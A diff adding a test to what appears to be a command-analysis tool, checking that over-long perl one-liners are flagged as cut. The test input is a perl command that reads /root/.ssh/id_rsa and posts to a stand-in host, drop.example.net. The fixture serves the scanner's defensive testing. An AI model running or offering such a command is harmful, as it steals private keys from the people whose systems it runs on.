@@ -382,3 +382,16 @@ for (const piece of ['$a = $b . "/run/secrets/a"; ', 'a.b.c, ', 'post("https://a
     assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
   });
 }
+
+test('code that is too long to be followed is said to be cut, and other code is not', () => {
+  const code = (filling: string): readonly string[] => [
+    'perl',
+    '-MHTTP::Tiny',
+    '-e',
+    `open my $f,'<','/root/.ssh/id_rsa'; ${filling} HTTP::Tiny->new->post_form('https://drop.example.net/in',{d=>1});`,
+  ];
+  const isCut = (argv: readonly string[]): boolean => actsOf(argv).some((one) => /longer or deeper/.test(one));
+  assert.equal(isCut(code('$a = 1; '.repeat(20))), false);
+  assert.equal(isCut(code('$a = 1; '.repeat(2100))), true);
+  assert.equal(isCut(code('$aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa = 1; '.repeat(1100))), true);
+});
